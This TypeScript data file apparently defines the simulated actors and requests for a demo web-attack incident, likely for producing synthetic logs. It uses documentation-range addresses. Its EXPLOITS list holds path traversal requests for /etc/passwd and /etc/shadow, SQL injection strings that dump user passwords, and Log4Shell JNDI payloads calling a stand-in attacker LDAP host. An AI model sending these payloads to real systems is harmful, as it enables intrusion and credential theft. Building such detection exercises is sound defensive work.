/**
 * The cast and the props of the demo incident. Every external address is in a documentation
 * range (RFC 5737), so nothing real is named.
 */
export const ATTACKER = '203.0.113.66';
/** An uptime monitor: busy, harmless. */
export const DECOY = '198.51.100.200';
/** The web application server; the attacker's foothold, and later the uploader. */
export const WEB_SERVER = '10.0.1.20';
export const INTERNAL_HOSTS = ['10.0.1.20', '10.0.1.21', '10.0.2.15', '10.0.2.16', '10.0.3.5'];

export const BROWSER_UAS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36',
];
export const DECOY_UA = 'Mozilla/5.0 (compatible; UptimeProbe/2.3; +https://status.example.net/bot)';
export const SCANNER_UAS = [
  'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
  'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
  'sqlmap/1.8.2#stable (https://sqlmap.org)',
];
export const ATTACKER_UA = 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0.4664.45 Safari/537.36';

/** Normal pages: path, typical body size, weight. */
export const PAGES: readonly (readonly [string, number, number])[] = [
  ['/', 18_250, 20], ['/login', 6_120, 6], ['/static/app.js', 184_311, 10], ['/static/app.css', 42_907, 10],
  ['/static/img/logo.svg', 3_204, 8], ['/api/orders?page=1', 9_870, 8], ['/api/orders?page=2', 9_412, 4],
  ['/api/profile', 1_230, 6], ['/products/42', 14_020, 6], ['/products/7', 13_880, 5], ['/search?q=boots', 11_540, 4],
  ['/cart', 7_002, 4], ['/checkout', 8_450, 2], ['/favicon.ico', 1_150, 5], ['/robots.txt', 68, 1],
];
export const DECOY_PATHS = ['/', '/health', '/status', '/products/42', '/login'];
export const REFERERS = ['-', 'https://shop.example.com/', 'https://www.example.org/search?q=shop', 'https://shop.example.com/products/42'];

/** Paths a scanner tries: none exist here, so they end in 404. */
export const SCAN_PATHS = [
  '/.env', '/.git/config', '/wp-login.php', '/wp-admin/', '/phpmyadmin/', '/admin', '/admin/login', '/server-status',
  '/backup.zip', '/db.sql', '/config.php', '/.aws/credentials', '/actuator/env', '/api/v1/debug', '/console',
  '/cgi-bin/test.cgi', '/shell.php', '/uploads/cmd.jsp', '/.DS_Store', '/web.config', '/solr/admin/info/system',
];

export type ExploitKind = 'traversal' | 'sqli' | 'jndi';

/** Exploit requests: kind, path, status, body size, user agent override. */
export const EXPLOITS: readonly { kind: ExploitKind; path: string; status: number; bytes: number; ua?: string }[] = [
  { kind: 'traversal', path: '/download?file=../../../../etc/passwd', status: 200, bytes: 2_847 },
  { kind: 'traversal', path: '/static/..%2f..%2f..%2f..%2fetc%2fshadow', status: 403, bytes: 162 },
  { kind: 'traversal', path: '/download?file=..%2F..%2F..%2Fapp%2Fconfig%2Fdatabase.yml', status: 200, bytes: 1_204 },
  { kind: 'sqli', path: "/api/orders?id=1'%20OR%201=1--", status: 200, bytes: 48_390 },
  { kind: 'sqli', path: '/login?user=admin%27%20UNION%20SELECT%20username,password%20FROM%20users--', status: 500, bytes: 612 },
  { kind: 'sqli', path: '/api/orders?id=1;SELECT%20pg_sleep(5)--', status: 200, bytes: 9_870 },
  { kind: 'jndi', path: '/api/search?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.66%3A1389%2FExploit%7D', status: 200, bytes: 11_540 },
  { kind: 'jndi', path: '/', status: 200, bytes: 18_250, ua: '${jndi:ldap://203.0.113.66:1389/Basic/Command/Base64/aWQ=}' },
];
